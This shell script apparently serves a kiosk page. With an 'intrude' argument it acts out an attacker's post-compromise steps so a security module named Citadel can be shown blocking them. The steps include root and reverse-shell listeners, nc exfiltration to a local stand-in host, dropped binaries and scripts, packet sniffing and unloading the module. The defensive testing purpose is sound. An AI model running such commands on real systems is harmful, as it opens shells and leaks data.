#!/bin/sh
# The kiosk UI service: serves the kiosk page. With "intrude", the steps
# an attacker who got code execution inside the UI would try.
if [ "$1" != intrude ]; then
	exec httpd -f -p 127.0.0.1:8080 -h /tmp/www
fi
. /citadel/demo_lib.sh
try "open a root shell listener: telnetd on :2323" telnetd -F -p 2323 -l /bin/sh
try "open a reverse-shell listener: nc -l -p 4444" nc -l -p 4444
try "exfiltrate to 127.0.0.66:443" sh -c 'echo secrets | nc 127.0.0.66 443'
try "call home to the collector (not the UI's job)" sh -c 'echo x | nc 127.0.0.2 9000'
try "run a dropped tool: copy of busybox as /tmp/bb" sh -c 'cp /bin/busybox /tmp/bb && /tmp/bb true'
try "run a dropped script: /tmp/x.sh" sh -c 'printf "#!/bin/sh\necho pwned\n" >/tmp/x.sh && chmod +x /tmp/x.sh && /tmp/x.sh'
try "sniff with a packet socket: arping" arping -c 1 -w 1 -I lo 127.0.0.1
try "unload Citadel: rmmod citadel (its hooks pin it)" rmmod citadel
